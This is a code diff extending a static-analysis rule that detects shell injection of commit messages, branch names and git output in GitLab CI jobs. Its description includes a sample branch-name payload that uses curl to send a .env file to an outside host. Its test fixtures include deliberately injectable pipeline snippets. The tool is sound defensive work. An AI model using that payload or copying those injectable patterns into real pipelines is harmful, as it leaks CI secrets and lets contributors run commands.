@@ -1,6 +1,6 @@
 import { detailNote, inside } from '../rule.js';
 import { inScript, lineAtOffset } from '../script-checks.js';
-import { basename, effectiveWords, parseShell, type ShellCommand, type ShellWord } from '../shell.js';
+import { basename, effectiveWords, gitSubcommand, gitTextOutput, parseShell, type GitText, type ShellCommand, type ShellWord } from '../shell.js';
 import { get, text } from '../yaml/tree.js';
 import { gitlabRule, lineOf, pipeline, pipelineScripts, variableScopes, variableValue, type Pipeline } from './pipeline.js';
 
@@ -27,7 +27,47 @@ const WRITTEN_BY: Record<string, string> = {
 
 /** Tags are pushed by members allowed to (often only maintainers, for protected tags): a smaller circle than who writes a branch or a merge request. */
 const MEMBERS_ONLY = new Set(['CI_COMMIT_TAG', 'CI_COMMIT_TAG_MESSAGE']);
-const severityOf = (name: string) => (MEMBERS_ONLY.has(name) ? { severity: 'medium' as const } : {});
+
+/** Text a contributor writes as a job reads it: a predefined variable, or what a git command prints of the commits (`$(git log -1 --pretty=%B)`). */
+interface Written {
+  /** How a message names it: `$CI_COMMIT_MESSAGE`, `$(git log -1 --pretty=%B)`. */
+  readonly what: string;
+  /** Who writes it, for a message: 'the commit message'. */
+  readonly by: string;
+  /** Written only by members allowed to push tags: reported as medium. */
+  readonly members?: boolean;
+}
+
+const predefined = (name: string): Written | undefined =>
+  name in WRITTEN_BY ? { what: `$${name}`, by: WRITTEN_BY[name]!, ...(MEMBERS_ONLY.has(name) ? { members: true } : {}) } : undefined;
+const severityOf = (source: Written) => (source.members ? { severity: 'medium' as const } : {});
+
+/** Who writes what git prints (the name of the branch checked out aside, which HEAD_BRANCH tells). */
+const GIT_WRITTEN: Readonly<Record<Exclude<GitText, 'branch'>, string>> = {
+  message: 'the commit message',
+  author: "the commit's author",
+  committer: "the commit's committer",
+  refs: 'a branch or tag name',
+};
+
+/**
+ * Key of a shell's carriers (no variable's name) for the branch the job has checked out
+ * under a name a contributor wrote (`git checkout -B "$CI_COMMIT_REF_NAME"`). GitLab checks
+ * out the commit, HEAD detached: until then `git rev-parse --abbrev-ref HEAD` prints `HEAD`,
+ * and after `git checkout main` the name the job itself wrote.
+ */
+const HEAD_BRANCH = '\0HEAD';
+
+/** The text a command substitution's script prints that a contributor wrote, named by the substitution as written. */
+function substitutionSource(command: string, carriers: ReadonlyMap<string, Written>): Written | undefined {
+  const text = gitTextOutput(command);
+  if (!text) return undefined;
+  const written = command.trim().replace(/\s+/g, ' ');
+  const what = `$(${written.length > 60 ? `${written.slice(0, 59)}…` : written})`;
+  if (text !== 'branch') return { what, by: GIT_WRITTEN[text] };
+  const head = carriers.get(HEAD_BRANCH);
+  return head ? { ...head, what } : undefined;
+}
 
 /** Shells whose `-c` option runs its argument as a script, and su, which hands its `-c` argument to one. */
 const SHELLS = new Set(['sh', 'bash', 'dash', 'zsh', 'ksh', 'ash', 'mksh', 'su']);
@@ -45,16 +85,20 @@ interface WindowsForms {
 }
 
 /**
- * The variables a word expands directly, as written in the script from `offset`: `$NAME`
- * and `${NAME...}` outside single quotes and not escaped. What a command substitution
- * (`$(...)`, backticks) expands is the substitution's own argument, not part of the text.
- * Windows variable names, which Windows takes in any case, are given in upper case.
+ * What a word expands directly, as written in the script from `offset`, outside single
+ * quotes and not escaped: the variables (`$NAME`, `${NAME...}`), and the scripts of its
+ * command substitutions (`$(...)`, backticks), whose output becomes part of the text. What
+ * a substitution expands inside is its own argument, not part of the text.
+ * Windows variable names, which Windows takes in any case, are given in upper case;
+ * PowerShell (which reads `$NAME` as its own variable) has no backtick substitution.
  */
-function directExpansions(script: string, offset: number, forms: WindowsForms = {}): string[] {
+function expansionsOf(script: string, offset: number, forms: WindowsForms = {}): { names: string[]; commands: string[] } {
   const names: string[] = [];
+  const commands: string[] = [];
   let quote: "'" | '"' | undefined;
   let depth = 0;
-  let backtick = false;
+  let opened = 0;
+  let backtick = -1;
   for (let i = offset; i < script.length; i++) {
     const c = script[i]!;
     if (c === '%' && forms.percent) {
@@ -73,30 +117,65 @@ function directExpansions(script: string, offset: number, forms: WindowsForms = 
       i++;
       continue;
     }
-    if (!quote && depth === 0 && !backtick && /[\s;&|<>()]/.test(c)) break;
+    if (!quote && depth === 0 && backtick < 0 && /[\s;&|<>()]/.test(c)) break;
     if (c === "'" && !quote && depth === 0) quote = "'";
     else if (c === '"' && depth === 0) quote = quote ? undefined : '"';
-    else if (c === '`') backtick = !backtick;
-    else if (c === '$' && script[i + 1] === '(') depth++, i++;
-    else if (c === ')' && depth > 0) depth--;
-    else if (c === '$' && depth === 0 && !backtick) {
+    else if (c === '`' && depth === 0) {
+      if (backtick < 0) backtick = i;
+      else {
+        if (forms.posix !== false) commands.push(script.slice(backtick + 1, i));
+        backtick = -1;
+      }
+    } else if (c === '$' && script[i + 1] === '(') {
+      if (depth++ === 0) opened = i;
+      i++;
+    } else if (c === '(' && depth > 0) depth++;
+    else if (c === ')' && depth > 0) {
+      if (--depth === 0 && backtick < 0) commands.push(script.slice(opened + 2, i));
+    } else if (c === '$' && depth === 0 && backtick < 0) {
       const env = forms.env ? /^\$(?:\{env:([A-Za-z_]\w*)\}|env:([A-Za-z_]\w*))/i.exec(script.slice(i, i + 80)) : null;
       const name = /^\$(?:\{([A-Za-z_]\w*)|([A-Za-z_]\w*))/.exec(script.slice(i, i + 80));
       if (env) names.push((env[1] ?? env[2]!).toUpperCase());
       else if (name && forms.posix !== false) names.push(name[1] ?? name[2]!);
     }
   }
-  return names;
+  return { names, commands };
 }
 
-/** The variables a here-document's body expands (its delimiter unquoted): `$NAME` and `${NAME...}` not escaped, wherever they are, quotes being text there. With their offsets. */
-function bodyExpansions(script: string, start: number, end: number): Array<{ name: string; offset: number }> {
-  const out: Array<{ name: string; offset: number }> = [];
-  for (const match of script.slice(start, end).matchAll(/(\\*)\$(?:\{([A-Za-z_]\w*)|([A-Za-z_]\w*))/g)) {
+const directExpansions = (script: string, offset: number, forms?: WindowsForms): string[] => expansionsOf(script, offset, forms).names;
+
+/**
+ * What a here-document's body expands (its delimiter unquoted), with offsets: the variables
+ * (`$NAME`, `${NAME...}`) and the scripts of the command substitutions (`$(...)`, backticks)
+ * not escaped, wherever they are, quotes being text there.
+ */
+function bodyExpansions(script: string, start: number, end: number): { names: Array<{ name: string; offset: number }>; commands: Array<{ command: string; offset: number }> } {
+  const names: Array<{ name: string; offset: number }> = [];
+  const commands: Array<{ command: string; offset: number }> = [];
+  const body = script.slice(start, end);
+  // The closing backtick of the last substitution read: no opening one.
+  let closed = -1;
+  for (const match of body.matchAll(/(\\*)(?:\$(?:\{([A-Za-z_]\w*)|([A-Za-z_]\w*)|(\())|(`))/g)) {
     if (match[1]!.length % 2 === 1) continue;
-    out.push({ name: match[2] ?? match[3]!, offset: start + match.index + match[1]!.length });
+    const offset = start + match.index + match[1]!.length;
+    if (match[2] ?? match[3]) names.push({ name: match[2] ?? match[3]!, offset });
+    else if (match[5]) {
+      if (offset - start <= closed) continue;
+      closed = body.indexOf('`', offset - start + 1);
+      if (closed >= 0) commands.push({ command: body.slice(offset - start + 1, closed), offset });
+      else closed = body.length;
+    } else {
+      let depth = 0;
+      for (let k = offset - start + 1; k < body.length; k++) {
+        if (body[k] === '(') depth++;
+        else if (body[k] === ')' && --depth === 0) {
+          commands.push({ command: body.slice(offset - start + 2, k), offset });
+          break;
+        }
+      }
+    }
   }
-  return out;
+  return { names, commands };
 }
 
 /** ssh's options that take a value (`-i key`, `-p 22`, `-o Option=value`). */
@@ -193,6 +272,31 @@ function assignmentsOf(command: ShellCommand): readonly ShellWord[] {
 }
 
 /**
+ * The branch a command checks out, when it is `git checkout` or `git switch` of one: the
+ * contributor-written text its name expands (`git checkout -B "$CI_COMMIT_REF_NAME"`,
+ * `git switch "$BRANCH"`), or null for another name, a commit or a detached HEAD
+ * (`git checkout main`, `git checkout "$CI_COMMIT_SHA"`, `git checkout "origin/$BRANCH"`).
+ * Undefined for another command, or one that leaves HEAD where it is (`git checkout -- file`).
+ */
+function checkedOut(command: ShellCommand, script: string, sourceOf: (name: string) => Written | undefined): Written | null | undefined {
+  const git = gitSubcommand(command);
+  if (!git || (git.name !== 'checkout' && git.name !== 'switch') || git.args.some((w) => w.text === '--')) return undefined;
+  const args = git.args;
+  for (let k = 0; k < args.length; k++) {
+    const arg = args[k]!.text;
+    if (arg === '--detach' || arg === '-d') return null;
+    // A branch created or reset under that name: HEAD is on it.
+    const created = /^-[bBcC]$/.test(arg) || arg === '--orphan' ? args[k + 1] : undefined;
+    if (created) return directExpansions(script, created.offset).map(sourceOf).find((s) => s !== undefined) ?? null;
+    if (arg.startsWith('-')) continue;
+    // An existing branch named by the variable alone (a remote's `origin/$BRANCH` is checked out detached).
+    const whole = /^"?\$\{?[A-Za-z_]\w*\}?"?(?=[\s;&|)]|$)/.test(script.slice(args[k]!.offset, args[k]!.offset + 200));
+    return (whole && directExpansions(script, args[k]!.offset).map(sourceOf).find((s) => s !== undefined)) || null;
+  }
+  return undefined;
+}
+
+/**
  * Words of a script that the shell reads again as code after expanding them: the arguments
  * of `eval`, the script of `sh -c '...'` (`bash -ec`, `su -c`, also after a wrapper
  * such as `docker exec ctr` or `kubectl exec pod --`), the remote command of ssh (also
@@ -200,14 +304,17 @@ function assignmentsOf(command: ShellCommand): readonly ShellWord[] {
  * Invoke-Expression and `-Command`, each with the attacker-written variables it expands
  * directly; and the body of a here-document (delimiter unquoted) that a shell reads as its
  * script, where the outer shell expands every `$NAME` before the inner one parses it.
+ * A command substitution there whose output is such text (`eval "notify $(git log -1
+ * --pretty=%B)"`) is expanded by the outer shell too, and its output parsed again.
  *
- * `carriers` maps variables that hold such text to the predefined variable they hold:
+ * `carriers` maps variables that hold such text to the text they hold:
  * those of the pipeline file, and those the script sets (`X="$CI_COMMIT_MESSAGE"`,
- * `export X=...`) before it runs them; the script's assignments are written into it, so
- * that the next script of the same shell (the job's next line) sees them.
+ * `X=$(git log -1 --format=%s)`, `export X=...`) before it runs them; the script's
+ * assignments are written into it, so that the next script of the same shell (the job's
+ * next line) sees them, and so is the branch it checks out (HEAD_BRANCH).
  */
-function* injections(script: string, carriers: Map<string, string> = new Map()): Generator<{ offset: number; name: string; source: string; sink: string }> {
-  const sourceOf = (name: string) => (name in WRITTEN_BY ? name : carriers.get(name));
+function* injections(script: string, carriers: Map<string, Written> = new Map()): Generator<{ offset: number; expansion: string; source: Written; sink: string }> {
+  const sourceOf = (name: string) => predefined(name) ?? carriers.get(name);
   const pipelines = parseShell(script);
   // Bodies of here-documents a shell runs with the outer shell's expansions: read whole below, not command by command.
   const expandedBodies: Array<[number, number]> = [];
@@ -223,20 +330,28 @@ function* injections(script: string, carriers: Map<string, string> = new Map()):
       const shell = doc.quoted ? undefined : heredocShell(pipeline, index);
       if (!shell) continue;
       const reported = new Set<string>();
-      for (const { name, offset } of bodyExpansions(script, doc.start, doc.end)) {
-        const source = sourceOf(name);
-        if (!source || reported.has(name)) continue;
-        reported.add(name);
-        yield { offset, name, source, sink: shell };
+      const { names, commands } = bodyExpansions(script, doc.start, doc.end);
+      const found = [
+        ...names.map(({ name, offset }) => ({ offset, expansion: `$${name}`, source: sourceOf(name) })),
+        ...commands.map(({ command: text, offset }) => ({ offset, source: substitutionSource(text, carriers) })).map((f) => ({ ...f, expansion: f.source?.what ?? '' })),
+      ].sort((x, y) => x.offset - y.offset);
+      for (const { offset, expansion, source } of found) {
+        if (!source || reported.has(expansion)) continue;
+        reported.add(expansion);
+        yield { offset, expansion, source, sink: shell };
       }
     }
     if (inExpandedBody(command.offset)) continue;
     for (const word of assignmentsOf(command)) {
       const name = word.text.slice(0, word.text.indexOf('='));
-      const source = directExpansions(script, word.offset).map(sourceOf).find((s) => s !== undefined);
+      const { names, commands } = expansionsOf(script, word.offset);
+      const source = names.map(sourceOf).find((s) => s !== undefined) ?? commands.map((c) => substitutionSource(c, carriers)).find((s) => s !== undefined);
       if (source && !(name in WRITTEN_BY)) carriers.set(name, source);
       else carriers.delete(name);
     }
+    const head = checkedOut(command, script, sourceOf);
+    if (head) carriers.set(HEAD_BRANCH, head);
+    else if (head === null) carriers.delete(HEAD_BRANCH);
     const words = effectiveWords(command);
     const reread: Array<{ word: ShellWord; sink: string; forms?: WindowsForms }> = [];
     if (basename(words[0]?.text ?? '') === 'eval') reread.push(...words.slice(1).map((word) => ({ word, sink: 'eval' })));
@@ -255,11 +370,15 @@ function* injections(script: string, carriers: Map<string, string> = new Map()):
     }
     const reported = new Set<string>();
     for (const { word, sink, forms } of reread) {
-      for (const name of directExpansions(script, word.offset, forms)) {
-        const source = sourceOf(name);
-        if (!source || reported.has(name)) continue;
-        reported.add(name);
-        yield { offset: word.offset, name, source, sink };
+      const { names, commands } = expansionsOf(script, word.offset, forms);
+      const found = [
+        ...names.map((name) => ({ expansion: `$${name}`, source: sourceOf(name) })),
+        ...commands.map((text) => substitutionSource(text, carriers)).map((source) => ({ expansion: source?.what ?? '', source })),
+      ];
+      for (const { expansion, source } of found) {
+        if (!source || reported.has(expansion)) continue;
+        reported.add(expansion);
+        yield { offset: word.offset, expansion, source, sink };
       }
     }
   }
@@ -270,27 +389,29 @@ function* injections(script: string, carriers: Map<string, string> = new Map()):
  * $CI_COMMIT_BRANCH`): GitLab expands it when it creates the job, so the job's $BRANCH is
  * the branch name. A variable with `expand: false` keeps the text `$CI_COMMIT_BRANCH`.
  */
-function carriers(p: Pipeline): Map<string, string> {
-  const out = new Map<string, string>();
+function carriers(p: Pipeline): Map<string, Written> {
+  const out = new Map<string, Written>();
   for (const { map } of variableScopes(p)) {
     for (const entry of map.pairs) {
       const { value } = variableValue(entry.value);
       if (typeof value !== 'string' || text(get(entry.value, 'expand')) === 'false') continue;
       const source = [...value.matchAll(/\$\{?([A-Za-z_]\w*)/g)].map((m) => m[1]!).find((name) => name in WRITTEN_BY);
-      if (source && !(entry.key in WRITTEN_BY)) out.set(entry.key, source);
+      if (source && !(entry.key in WRITTEN_BY)) out.set(entry.key, predefined(source)!);
     }
   }
   return out;
 }
 
 const SSH_SINK = "ssh's remote shell";
+/** Where the text of a variable comes from, when it is not the variable itself. */
+const via = (expansion: string, source: Written) => (expansion === source.what ? '' : ` (set from ${source.what})`);
 const where = (sink: string) => (sink === SSH_SINK ? 'on the host ssh logs in to' : 'in the job');
 
 const scriptInjection = gitlabRule({
   id: 'iac/gitlab-script-injection',
   title: 'Commit or merge request text run as shell code in CI',
   description:
-    'A job passes a predefined variable whose text a contributor writes (CI_COMMIT_MESSAGE, CI_COMMIT_BRANCH, CI_COMMIT_REF_NAME, CI_MERGE_REQUEST_TITLE, CI_MERGE_REQUEST_SOURCE_BRANCH_NAME...) to a command that reads it again as shell code: `eval`, the script of `sh -c "..."` (bash, zsh, su -c, also through docker exec or kubectl exec), the remote command of `ssh host ...` (also run by sshpass), which ssh joins into one line for the remote shell to parse (quoting it locally does not help there), the body of a here-document that a shell or ssh reads as its script (`bash <<EOF`, `cat <<EOF | ssh host`: the job\'s shell expands every $NAME of the body first, quotes in it being text; a quoted delimiter, `<<\'EOF\'`, expands nothing), or on Windows the command line of `cmd /c` (which expands %NAME% itself), the text of PowerShell\'s Invoke-Expression and of `pwsh -Command` (with $env:NAME). GitLab hands predefined variables to the job as environment variables, so `echo "$CI_COMMIT_MESSAGE"` only prints the text; but once expanded into the text that eval or sh -c parses, a commit message or branch name such as `x;curl${IFS}-d@.env${IFS}example.org` runs as a command, with the job\'s CI/CD variables. Git allows `$(...)`, `;` and quotes in branch and tag names. A variable of the file set from one of them (`BRANCH: $CI_COMMIT_BRANCH`, expanded by GitLab when it creates the job) carries it too, and so does a shell variable a line of the job\'s before_script or script sets from one (`export MSG="$CI_COMMIT_MESSAGE"`) before a later line runs it (`eval "$MSG"`). The tag name and message (CI_COMMIT_TAG, CI_COMMIT_TAG_MESSAGE), which only members allowed to push tags write, are reported as medium. A variable inside single quotes or escaped (`sh -c \'echo "$CI_COMMIT_BRANCH"\'`) is expanded by the inner shell as data and is not reported. The shell scripts of the repository that a job runs (`- ./ci/build.sh`, `- bash ci/release.sh`) are read and judged too, on their own lines.',
+    'A job passes a predefined variable whose text a contributor writes (CI_COMMIT_MESSAGE, CI_COMMIT_BRANCH, CI_COMMIT_REF_NAME, CI_MERGE_REQUEST_TITLE, CI_MERGE_REQUEST_SOURCE_BRANCH_NAME...) to a command that reads it again as shell code: `eval`, the script of `sh -c "..."` (bash, zsh, su -c, also through docker exec or kubectl exec), the remote command of `ssh host ...` (also run by sshpass), which ssh joins into one line for the remote shell to parse (quoting it locally does not help there), the body of a here-document that a shell or ssh reads as its script (`bash <<EOF`, `cat <<EOF | ssh host`: the job\'s shell expands every $NAME of the body first, quotes in it being text; a quoted delimiter, `<<\'EOF\'`, expands nothing), or on Windows the command line of `cmd /c` (which expands %NAME% itself), the text of PowerShell\'s Invoke-Expression and of `pwsh -Command` (with $env:NAME). GitLab hands predefined variables to the job as environment variables, so `echo "$CI_COMMIT_MESSAGE"` only prints the text; but once expanded into the text that eval or sh -c parses, a commit message or branch name such as `x;curl${IFS}-d@.env${IFS}example.org` runs as a command, with the job\'s CI/CD variables. Git allows `$(...)`, `;` and quotes in branch and tag names. A variable of the file set from one of them (`BRANCH: $CI_COMMIT_BRANCH`, expanded by GitLab when it creates the job) carries it too, and so does a shell variable a line of the job\'s before_script or script sets from one (`export MSG="$CI_COMMIT_MESSAGE"`) before a later line runs it (`eval "$MSG"`). So does what a git command prints of the commits, set into a variable (`MSG=$(git log -1 --pretty=%B)`, `` AUTHOR=`git show -s --format=%an` ``) or substituted straight into the code (`eval "notify $(git log -1 --format=%s)"`: the job\'s shell runs git, and eval parses its output): the message (%s, %b, %B, --oneline and the named formats), the author\'s and committer\'s names and emails (%an, %ae, %cn, %ce), the branch and tag names decorating a commit (%d, %D); not hashes, dates or %f. The name of the branch checked out (`git rev-parse --abbrev-ref HEAD`, `git branch --show-current`) counts once the job checks out a branch under a name a contributor wrote (`git checkout -B "$CI_COMMIT_REF_NAME"`): GitLab checks out the commit with HEAD detached, where git prints `HEAD`. The tag name and message (CI_COMMIT_TAG, CI_COMMIT_TAG_MESSAGE), which only members allowed to push tags write, are reported as medium. A variable inside single quotes or escaped (`sh -c \'echo "$CI_COMMIT_BRANCH"\'`) is expanded by the inner shell as data and is not reported. The shell scripts of the repository that a job runs (`- ./ci/build.sh`, `- bash ci/release.sh`) are read and judged too, on their own lines.',
   remediation: 'Do not build shell code from these variables: run the command directly with the variable quoted (`deploy --branch "$CI_COMMIT_BRANCH"`), or pass it to the inner shell as an argument (`sh -c \'deploy --branch "$1"\' sh "$CI_COMMIT_BRANCH"`); use CI_COMMIT_REF_SLUG where a name must be safe.',
   severity: 'high',
   cwe: ['CWE-78', 'CWE-94'],
@@ -310,6 +431,9 @@ const scriptInjection = gitlabRule({
       pipeline('deploy:\n  # expect\n  script:\n    # detail\n    - sshpass -e ssh deploy@app.example.org "./deploy.sh $CI_COMMIT_REF_NAME"\n'),
       pipeline('deploy:\n  tags: [windows]\n  # expect\n  script:\n    # detail\n    - cmd /c "notify %CI_COMMIT_MESSAGE%"\n'),
       pipeline('deploy:\n  tags: [windows]\n  # expect\n  script:\n    # detail\n    - Invoke-Expression "notify $env:CI_MERGE_REQUEST_TITLE"\n'),
+      // What git prints of the commit, set into a variable or substituted straight into the code.
+      pipeline('notify:\n  # expect\n  script:\n    - MSG=$(git log -1 --pretty=%B)\n    # detail\n    - eval "notify $MSG"\n'),
+      pipeline('notify:\n  # expect\n  script:\n    # detail\n    - sh -c "notify --author $(git show -s --format=%an)"\n'),
     ],
     negative: [
       pipeline(
@@ -323,20 +447,23 @@ const scriptInjection = gitlabRule({
         "deploy:\n  script:\n    - export MSG=\"$CI_COMMIT_MESSAGE\"\n    - echo \"$MSG\"\n    - TITLE=\"$CI_MERGE_REQUEST_TITLE\"\n    - TITLE=release\n    - eval \"notify $TITLE\"\n    - |\n      bash <<'EOF'\n      echo \"$CI_COMMIT_TITLE\"\n      EOF\n    - |\n      cat <<EOF > notes.txt\n      $CI_COMMIT_MESSAGE\n      EOF\n",
       ),
       // Windows: printed, or single-quoted for PowerShell, which then reads the variable as data.
+      // git's output printed, a hash, the branch of a detached HEAD (GitLab's checkout), a substitution the inner shell runs.
+      pipeline(
+        "notify:\n  script:\n    - echo \"$(git log -1 --pretty=%B)\"\n    - HASH=$(git log -1 --pretty=%H)\n    - eval \"deploy $HASH\"\n    - BRANCH=$(git rev-parse --abbrev-ref HEAD)\n    - eval \"deploy $BRANCH\"\n    - sh -c 'notify \"$(git log -1 --format=%s)\"'\n",
+      ),
       pipeline("deploy:\n  tags: [windows]\n  script:\n    - echo %CI_COMMIT_MESSAGE%\n    - Write-Output $env:CI_COMMIT_MESSAGE\n    - Invoke-Expression 'notify $env:CI_MERGE_REQUEST_TITLE'\n    - cmd /c \"notify --slug %CI_COMMIT_REF_SLUG%\"\n"),
     ],
   },
   *check(p) {
     const carried = carriers(p);
     // What a line of a job's before_script and script sets, the next lines see (one shell); after_script runs in a shell of its own.
-    const shells = new Map<string, Map<string, string>>();
+    const shells = new Map<string, Map<string, Written>>();
     for (const { owner, scalar, text: script, keyLine, key } of pipelineScripts(p)) {
       const shell = `${owner}\0${key === 'after_script' ? key : 'script'}`;
       if (!shells.has(shell)) shells.set(shell, new Map(carried));
-      for (const { offset, name, source, sink } of injections(script, shells.get(shell))) {
+      for (const { offset, expansion, source, sink } of injections(script, shells.get(shell))) {
         const at = inside(keyLine, lineOf(p, scalar, offset));
-        const via = name === source ? '' : ` (set from $${source})`;
-        yield { ...at, message: `${owner} expands $${name}${via} into the code ${sink} runs${detailNote(at)}: whoever writes ${WRITTEN_BY[source]} can run commands ${where(sink)}.`, resource: owner, ...severityOf(source) };
+        yield { ...at, message: `${owner} expands ${expansion}${via(expansion, source)} into the code ${sink} runs${detailNote(at)}: whoever writes ${source.by} can run commands ${where(sink)}.`, resource: owner, ...severityOf(source) };
       }
     }
   },
@@ -346,12 +473,13 @@ const scriptInjection = gitlabRule({
       positive: [
         '#!/bin/sh\nset -eu\n# expect\neval "notify --title $CI_MERGE_REQUEST_TITLE"\n',
         '#!/bin/sh\nmsg="$CI_COMMIT_MESSAGE"\n# expect\nsh -c "notify $msg"\nssh deploy@app.example.org <<EOF\n# expect\n./deploy.sh $CI_COMMIT_BRANCH\nEOF\n',
+        '#!/bin/sh\ntitle=$(git log -1 --format=%s)\n# expect\neval "notify $title"\n',
       ],
       negative: ['#!/bin/sh\nnotify --title "$CI_MERGE_REQUEST_TITLE"\nsh -c \'notify --title "$CI_MERGE_REQUEST_TITLE"\'\nssh deploy@app.example.org <<\'EOF\'\n./deploy.sh "$CI_COMMIT_BRANCH"\nEOF\n'],
     },
     *check(script) {
-      for (const { offset, name, sink } of injections(script.text))
-        yield { line: lineAtOffset(script.text, offset), message: `$${name} is expanded into the code ${sink} runs${inScript(script)}: whoever writes ${WRITTEN_BY[name]} can run commands ${where(sink)}.`, key: `${offset}\0${name}`, ...severityOf(name) };
+      for (const { offset, expansion, source, sink } of injections(script.text))
+        yield { line: lineAtOffset(script.text, offset), message: `${expansion}${via(expansion, source)} is expanded into the code ${sink} runs${inScript(script)}: whoever writes ${source.by} can run commands ${where(sink)}.`, key: `${offset}\0${expansion}`, ...severityOf(source) };
     },
   },
 });
